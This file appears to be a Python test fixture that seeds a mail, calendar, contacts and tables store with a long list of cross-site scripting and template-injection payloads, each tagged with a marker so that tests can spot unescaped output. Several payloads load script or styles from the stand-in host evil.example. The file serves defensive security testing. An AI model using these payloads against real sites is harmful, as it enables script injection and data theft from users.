"""A store in which every field a stranger can fill holds an attack, each with a mark by which it is known again on a page."""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Iterable
from email.message import EmailMessage
from pathlib import Path

from connectors import memory
from syncd.clock import clock
from syncd.store import queries
from syncd.world import World
from tests.store.test_cards import BOOK, card
from tests.store.world import RASA, Mail, Office

_EVENTS = (
    "onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerover onanimationstart onanimationend ontransitionend ontoggle onstart onbegin onend onwheel onscroll "
    "onpageshow onhashchange onresize onbeforeinput oninput onchange oncopy onpaste ondrag ondrop onkeydown onloadstart oncanplay ondurationchange onsecuritypolicyviolation"
).split()
_TAGS = "svg img body video audio details input select textarea marquee object iframe math form a b x style table custom-tag".split()
_WHOLE = '''
<script>alert(1)</script>|<SCRIPT SRC=//evil.example/x.js></SCRIPT>|<scr<script>ipt>alert(1)</scr</script>ipt>|<script/src=data:,alert(1)>|<script>alert`1`</script>|<script x>alert(1)</script 1>
"><script>alert(1)</script>|'><script>alert(1)</script>|</title><script>alert(1)</script>|</textarea><script>alert(1)</script>|</style><script>alert(1)</script>|</script><script>alert(1)</script>
</option></select><img src=x onerror=alert(1)>|--><script>alert(1)</script>|]]><script>alert(1)</script>|<!--><img src=x onerror=alert(1)>-->|<![CDATA[<img src=x onerror=alert(1)>]]>
<svg><script>alert(1)</script></svg>|<svg><script href=data:,alert(1) />|<svg><animate onbegin=alert(1) attributeName=x dur=1s>|<svg><set onbegin=alert(1) attributename=x>|<svg><use href=data:image/svg+xml;base64,PHN2Zz4=>
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>|<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>|<svg/onload=alert(1)//|<svg onload=alert&lpar;1&rpar;>
<math><a xlink:href=javascript:alert(1)>x</a></math>|<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>|<math href=javascript:alert(1)>x</math>
<iframe src=javascript:alert(1)>|<iframe srcdoc="<script>alert(1)</script>">|<embed src=javascript:alert(1)>|<object data=javascript:alert(1)>|<object data=data:text/html,<script>alert(1)</script>>
<a href=javascript:alert(1)>x</a>|<a href="java&#9;script:alert(1)">x</a>|<a href="&#106;avascript:alert(1)">x</a>|<a href=" javascript:alert(1)">x</a>|<a href=data:text/html,<script>alert(1)</script>>x</a>
<a href=vbscript:msgbox(1)>x</a>|<form action=javascript:alert(1)><button>x</button></form>|<button formaction=javascript:alert(1)>x</button>|<isindex action=javascript:alert(1) type=submit>
<base href=//evil.example/>|<link rel=stylesheet href=//evil.example/x.css>|<link rel=import href=data:,x>|<meta http-equiv=refresh content="0;url=javascript:alert(1)">|<meta http-equiv=refresh content="0;url=//evil.example">
<style>@import'//evil.example/x.css';</style>|<style>*{background:url(//evil.example/x)}</style>|<b style="background:url(//evil.example/x)">x</b>|<b style=behavior:url(x.htc)>x</b>|<xss style="xss:expression(alert(1))">
<template><img src=x onerror=alert(1)></template>|<noscript><p title="</noscript><img src=x onerror=alert(1)>">|<xmp><p title="</xmp><img src=x onerror=alert(1)>">|<plaintext>|<frameset onload=alert(1)>
<details open ontoggle=alert(1)>|<input autofocus onfocus=alert(1)>|<video><source onerror=alert(1)></video>|<audio src=x onerror=alert(1)>|<img src=x:x onerror=alert(1)>|<img srcset=x onerror=alert(1)>
<img src=x onerror=alert(1)//|<img """"><script>alert(1)</script>">|<img src=`x` onerror=alert(1)>|<image src=x onerror=alert(1)>|<IMG SRC=x OnErRoR=alert(1)>|<img/src=x/onerror=alert(1)>|<img\tsrc=x\tonerror=alert(1)>
javascript:alert(1)|JaVaScRiPt:alert(1)|javascript://evil.example/%0Aalert(1)|data:text/html,<script>alert(1)</script>|vbscript:msgbox(1)|http://evil.example/<script>|https://evil.example/"onclick="alert(1)|//evil.example/x
" onmouseover=alert(1) x="|' onmouseover=alert(1) x='|" autofocus onfocus=alert(1) x="|"style="x:expression(alert(1))|`onmouseover=alert(1)|" formaction="javascript:alert(1)|x" onerror="alert(1)" src="x
{{7*7}}|{% print(7*7) %}|{{config.items()}}|{{''.__class__.__mro__}}|${7*7}|#{7*7}|<%= 7*7 %>|{{constructor.constructor('alert(1)')()}}|{{ self.__init__.__globals__ }}|{# x #}{{7*7}}
&lt;script&gt;alert(1)&lt;/script&gt;|&#60;script&#62;alert(1)&#60;/script&#62;|%3Cscript%3Ealert(1)%3C/script%3E|\\u003cscript\\u003ealert(1)|\\x3cscript\\x3ealert(1)|+ADw-script+AD4-alert(1)|＜script＞alert(1)＜/script＞
[x](javascript:alert(1))|![x](x"onerror="alert(1))|<javascript:alert(1)>|<mark onmouseover=alert(1)>x</mark>|<b>\u202e<script>alert(1)</script>|<ruby oncopy=alert(1)>x</ruby>|a<b>c</b>&d"e'f|<portal src=javascript:alert(1)>
'''
PAYLOADS = [p for line in _WHOLE.strip().splitlines() for p in line.split("|")] + [
    f"<{tag} {event}=alert(1) src=x tabindex=1>{tag}" for tag, event in zip(_TAGS * 2, _EVENTS * 2, strict=False)
]

_SOURCES = """
[[source]]
name = "calls"
connector = "calls"
path = "calls.csv"
columns = { start = "start", caller = "caller", callee = "callee", seconds = "seconds" }
""" + "".join(f'[[source]]\nname = "{kind}"\nconnector = "tables"\npath = "{kind}.csv"\nkind = "{kind}"\n' for kind in ("customers", "orders", "invoices", "assets"))


_A_FEW = 4  # attacks stand in one field together, so that there are fewer pages to look at
Group = list[tuple[int, str]]


def groups(payloads: list[str]) -> list[Group]:
    """The attacks that stand together, each with its number."""
    each = list(enumerate(payloads))
    return [each[at : at + _A_FEW] for at in range(0, len(each), _A_FEW)]


def marked(field: str, group: Group) -> str:
    """Attacks as they stand in a field: each behind what tells on a page that it was there."""
    return " ".join(_marks(field, group))


def _marks(field: str, group: Group) -> list[str]:
    return [f"zq{field}{n}q {payload}" for n, payload in group]


def address(at: int) -> str:
    """Who sends the attacks of a group; a few to a company."""
    return f"k{at}@evil{at // 6}.example"


def _mail(at: int, group: Group, *, sent: bool) -> bytes:
    mail = EmailMessage()
    who, whom = ("Rasa Petraitė", RASA), (marked("name", group), address(at))
    for header, (name, value) in zip(("From", "To"), (who, whom) if sent else (whom, who), strict=True):
        mail[header] = f'"{name.translate(_QUOTED)}" <{value}>'
    mail["Subject"] = marked("subject", group).replace("\t", " ")
    mail["Date"] = f"{'Fri, 13' if sent else 'Thu, 12'} Nov 2026 10:{at % 60:02}:00 +0200"
    mail["Message-ID"] = f"<{'out' if sent else 'in'}{at}@mail.example>"
    if sent:
        mail["In-Reply-To"] = f"<in{at}@mail.example>"
        mail.set_content("Hello,\n\n" + "\n\n".join(f"I will send you {said} by 25 November." for said in _marks("promise", group)) + "\n\nRasa\n")
        return mail.as_bytes()
    lines = [f"This is not acceptable, I complain of {said}.\n" for said in _marks("complaint", group)] + [f"We agreed on a price of 1200 EUR for {said}.\n" for said in _marks("offer", group)]
    mail.set_content(f"Hello,\n\nplease see {marked('body', group)} and answer.\n\n{chr(10).join(lines)}\n--\n{marked('signature', group)}\nUAB Blogis\n\n> {marked('quoted', group)}\n")
    for name, words in zip(_marks("file", group), _marks("words", group), strict=True):
        mail.add_attachment(words, filename=" ".join(reversed(name.replace("\t", " ").partition(" "))))  # what is before a slash is cut off
    return mail.as_bytes()


_QUOTED = str.maketrans({"\\": "\\\\", '"': '\\"', "\t": " "})


def _escaped(text: str) -> str:
    """As text of iCalendar and vCard."""
    return text.replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;")


def _meeting(at: int, group: Group) -> bytes:
    text = {field: _escaped(marked(field, group)) for field in ("summary", "description", "location")}
    lines = [
        "BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:x", "BEGIN:VEVENT", f"UID:m{at}@evil.example", "DTSTAMP:20261101T080000Z", f"DTSTART;TZID=Europe/Vilnius:202611{17 + at % 10}T1{at % 10}0000",
        "DURATION:PT30M", f"SUMMARY:{text['summary']}", f"DESCRIPTION:{text['description']}", f"LOCATION:{text['location']}", f"URL:javascript:alert({at})",
        f'ORGANIZER;CN="{marked("organizer", group).replace(chr(34), "^" + chr(39))}":mailto:{address(at)}', "ATTENDEE;CN=Rasa:mailto:rasa@klimatas.example", "END:VEVENT", "END:VCALENDAR", "",
    ]  # fmt: skip
    return "\r\n".join(lines).encode()


def _card(at: int, group: Group) -> bytes:
    text = {field: _escaped(marked(field, group)) for field in ("card", "org", "title", "note")}
    lines = (f"EMAIL:{address(at)}", f"TEL:+3706{at:07}", f"ORG:{text['org']}", f"TITLE:{text['title']}", f"NOTE:{text['note']}", "URL:javascript:alert(1)")
    return card(f"c{at}", *lines, name=text["card"])


def _table(heading: str, rows: Iterable[list[str]]) -> str:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(heading.split())
    writer.writerows(rows)
    return out.getvalue()


def _tables(payloads: list[str]) -> dict[str, str]:
    each = [(n, [(n, payload)]) for n, payload in enumerate(payloads)]
    return {
        "customers": _table("code name address emails", ([f"C{n}", marked("customer", g), marked("street", g), address(n)] for n, g in each)),
        "orders": _table("number date customer product amount state", ([f"{n} {marked('number', g)}", "2026-11-02", f"C{n}", marked("product", g), "12", marked("state", g)] for n, g in each)),
        "invoices": _table("number date due customer amount", ([f"V-{n} {marked('invoice', g)}", "2026-11-02", "2026-11-20", f"C{n}", "12"] for n, g in each)),
        "assets": _table("serial product customer", ([f"S-{n}", marked("unit", g), f"C{n}"] for n, g in each)),
        "calls": _table("start caller callee seconds", ([f"2026-11-{10 + n % 6} 10:{n % 60:02}:00", f"+3706{n + 5000:07}", "+37052123456", str(n % 3 * 40)] for n, g in each)),
    }  # fmt: skip


def fill(folder: Path, payloads: list[str]) -> Path:
    """Make the company, lay everything out, and make one pass; its config."""
    office = Office(folder, people=("rasa",), options={"sources": _SOURCES + BOOK.format(who="rasa", world=f"{folder}/rasa")})
    for name, text in _tables(payloads).items():
        (folder / f"{name}.csv").write_text(text, "utf-8")
        os.utime(folder / f"{name}.csv", (1_790_000_000, 1_790_000_000))
    book = memory.world(f"{folder}/rasa").mailbox
    for at, group in enumerate(groups(payloads)):
        office.put_mail("rasa", "", _mail(at, group, sent=False), f"in{at}")
        office.put_mail("rasa", "Sent", _mail(at, group, sent=True), f"out{at}")
        office.put_entry("rasa", f"m{at}", _meeting(at, group))
        book.add("cards", f"c{at}", _card(at, group), "text/vcard")
    for n, payload in enumerate(payloads):
        name = marked("folder", [(n, payload)])
        if not set("/.\t") & set(name):
            office.put_mail("rasa", name, Mail(id=f"f{n}", sender=address(n), to=(RASA,), at="2026-11-02T10:00", text="Please.").raw(), f"f{n}")
    assert [s.error for s in office.once().sources if s.error] == []
    office.with_world(lambda world: _save(world, payloads))
    return folder / "config.toml"


def _save(world: World, payloads: list[str]) -> None:
    with world.store.write() as db:
        for at, group in enumerate(groups(payloads)):
            titles = dict.fromkeys(("en", "lt", "ru"), marked("query", group))
            queries.save(db, queries.Query(f"q{at}", f"select '{marked('sql', group).replace(chr(39), chr(39) * 2)}' as a", titles, False), "local", clock())
